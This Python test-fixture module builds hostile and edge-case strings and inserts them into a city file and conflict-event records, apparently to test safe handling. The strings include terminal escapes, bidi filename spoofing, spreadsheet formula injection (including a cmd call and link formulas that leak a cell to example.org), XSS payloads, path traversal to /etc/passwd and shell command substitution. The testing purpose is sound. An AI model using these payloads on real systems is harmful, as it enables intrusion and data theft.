"""Eighty texts that mean harm or look as if they did, and a city and a log full of them."""

import json
from collections.abc import Callable, Iterator
from typing import Any

ESCAPES = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://example.org\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "what the terminal answers": "\x1b[6n\x1b[c",
    "device control": "\x1bP1$r0m\x1b\\",
    "application command": "\x1b_G\x1b\\",
    "full reset": "\x1bc",
    "other screen": "\x1b[?1049h",
    "half an escape": "end \x1b",
    "half a sequence": "\x1b[",
    "colours of rich": "[bold red]x[/bold red] [link=https://example.org]y[/link]",
    "an escape as text": "\\x1b[31m \\u001b[31m",
    "bell": "ding\x07",
    "backspaces": "good\b\b\b\bevil",
    "carriage return": "good\revil",
    "newline": "one\nError: two",
    "newline and record": 'x\n{"id":"forged"}',
    "tabs": "a\tb\t\tc",
    "form feed": "a\x0cb\x0bc",
    "delete": "a\x7fb",
    "shift out": "a\x0eb\x0fc",
    "file separators": "a\x1cb\x1dc\x1ed\x1fe",
    "substitute and cancel": "a\x1ab\x18c",
}
C1 = {
    "one-byte escape": "a\x9b31mb",
    "one-byte title": "\x9d0;owned\x9c",
    "one-byte device control": "\x90q\x9c",
    "next line": "a\x85b",
    "index and reverse index": "a\x84b\x8dc",
    "all of them": "".join(map(chr, range(0x80, 0xA0))) + "x",
}
DIRECTIONS = {
    "override to the right": "abc\u202ecba",
    "override to the left": "abc\u202dcba",
    "embeddings": "a\u202ab\u202bc\u202c",
    "isolates": "a\u2066b\u2067c\u2068d\u2069",
    "isolate without end": "a\u2067b",
    "a file that is no text": "report\u202etxt.exe",
    "an actor turned round": "Govern\u202etnem",
    "override within Arabic": "حلب\u202eبلح",
    "end without beginning": "\u202c\u2069x",
}
LINES = {
    "line separator": "one\u2028two",
    "paragraph separator": "one\u2029two",
    "a row of its own": "x\u2028Sakhour  Government  corroborated",
}
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "command": "=cmd|' /C calc'!A0",
    "address": '=HYPERLINK("https://example.org/?"&A1;"x")',
    "import": '=IMPORTXML(CONCAT("https://example.org/?",A1),"//a")',
    "blank before": " =1+1",
    "several blanks before": "   +1+1",
    "tab before": "\t=1+1",
    "newline before": "\n=1+1",
    "no-break space before": "\u00a0=1+1",
    "ideographic space before": "\u3000@SUM(A1)",
    "zero-width space before": "\u200b=1+1",
    "byte order mark before": "\ufeff=1+1",
    "mark of direction before": "\u200f=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(A1)",
    "small equals": "﹦1+1",
    "minus sign": "−1+1",
    "quotation mark before": '"=1+1',
    "row of cells": 'x",=1+1,"',
    "two signs": "--1+1",
}
MARKUP = {
    "script": "<script>alert(1)</script>",
    "picture": '"><img src=x onerror=alert(1)>',
    "drawing": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "end of a comment": "--><b>x</b><!--",
    "end of data": "]]></script><style>*{}</style>",
    "entity": "&lt;b&gt; &#27;[31m",
}
PATHS = {
    "up": "../../../etc/passwd",
    "home": "~/.bashrc",
    "device": "C:\\CON\\..\\x",
    "pipe": "|cat /etc/passwd",
    "shell": "$(reboot) `reboot`",
}
LONG = {
    "a long word": "Donau" + "dampfschifffahrts" * 60,
    "a long row of marks": "a" + "\u0301" * 300,
}
NUL = {"NUL": "a\0b", "NUL before a formula": "\0=1+1"}
"""Texts that only a label of a city can hold: no line of a log may."""

KIND = {
    "Arabic": "حلب الشرقية",
    "Arabic with marks of direction": "حلب\u200f (Aleppo)\u200e 2016",
    "Arabic letters' mark": "\u061cحلب",
    "Persian with a joiner": "می\u200cخواهم نمی\u200cدانم",
    "Arabic with a joiner": "ه\u200dـ",
    "a family": "👩\u200d👩\u200d👧\u200d👦",
    "a flag of joined emoji": "🏳️\u200d🌈",
    "a flag of tags": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "a tone of skin": "👍🏽",
    "Devanagari with a joiner": "क्\u200dष",
    "accents apart": "Franc\u0327ois",
    "dashes and quotation marks": "“so” – it’s…",
}
"""Texts that look much like the others, and must come out as they went in."""

TEXTS = ESCAPES | C1 | DIRECTIONS | LINES | FORMULAS | MARKUP | PATHS | LONG | KIND
LABELS = TEXTS | NUL
NAMES = list(TEXTS)
SAID = {"v": 1, "occurred": "2016-11-28", "reported": "2016-11-29"}


def toml(text: str) -> str:
    """Return a text as TOML."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def city() -> str:
    """Return the file of a city whose labels are all hostile or kind.

    The number of a text in `LABELS`, behind each label and in each id, keeps them apart.
    """
    rows = {"places": _place, "actors": _actor, "sources": _source}
    head = f'[city]\nid = "town"\nname = {toml(ESCAPES["title"])}\ntimezone = "UTC"\n'
    return head + "".join(f"\n[{table}]\n{_rows(row)}" for table, row in rows.items())


def _rows(row: Callable[[int, str], str]) -> str:
    return "".join(f"{row(number, text)}\n" for number, text in enumerate(LABELS.values()))


def _place(number: int, text: str) -> str:
    name, arabic, alias = (toml(f"{text} {letter}{number}") for letter in "pqr")
    return f"p{number} = {{ name = {name}, arabic = {arabic}, aliases = [{alias}] }}"


def _actor(number: int, text: str) -> str:
    label, alias = (toml(f"{text} {letter}{number}") for letter in "ab")
    return f"a{number} = {{ label = {label}, letter = {toml(text)}, aliases = [{alias}] }}"


def _source(number: int, text: str) -> str:
    label, short = (toml(f"{text} {letter}{number}") for letter in "st")
    return f"s{number} = {{ label = {label}, short = {short}, kind = 'media' }}"


def events() -> Iterator[dict[str, Any]]:
    """Yield events whose free texts are all of `TEXTS`, with the names of the same number."""
    for number, text in enumerate(TEXTS.values()):
        for own in _own_fields(number, text):
            common = _other(number, text) if own["type"] == "statement" else _head(number, text)
            yield common | own


def _head(number: int, text: str) -> dict[str, Any]:
    texts = dict.fromkeys(("outlet", "locator", "wording", "note"), text)
    archive = {"sha256": "0" * 64, "collector": text}
    return SAID | {"source": f"s{number}"} | texts | {"archive": archive}


def _other(number: int, text: str) -> dict[str, Any]:
    """Return what an event of another source has in common with none of the rest."""
    return SAID | {"source": "s0" if number else "s1", "note": text}


def _own_fields(number: int, text: str) -> Iterator[dict[str, Any]]:
    """Yield the type, the id and the fields of each event."""
    rows = _of_places(f"p{number}", f"a{number}", text) | _of_talks(f"a{number}", text)
    rows["denied"] = {
        "type": "statement",
        "stance": "disagree",
        "about": [f"held-{number}"],
        "topic": "t",
        "summary": text,
    }
    rows["not"] = {"type": "retraction", "target": f"came-{number}", "reason": text}
    for name, fields in rows.items():
        yield {"id": f"{name}-{number}"} | fields


def _of_places(place: str, actor: str, text: str) -> dict[str, dict[str, Any]]:
    share = {"measure": "share_held", "actor": actor, "share": {"low": 1}}
    water = {"subject": "water", "level": "none", "summary": text}
    return {
        "held": {"type": "control_change", "place": place, "actor": actor},
        "killed": {"type": "casualties", "place": place, "killed": {"low": 1}, "cause": text},
        "water": {"type": "condition", "place": place, **water},
        "siege": {"type": "siege", "place": place, "move": "begin", "by": actor},
        "fled": {"type": "displacement", "origin": place, "people": {"high": 5}},
        "share": {"type": "assessment", "place": place, **share},
        "came": {"type": "displacement", "destination": place},
    }


def _of_talks(party: str, text: str) -> dict[str, dict[str, Any]]:
    talks = {"negotiation": "n", "party": party, "move": "propose", "terms": text}
    return {"aid": {"type": "aid_negotiation", **talks}}
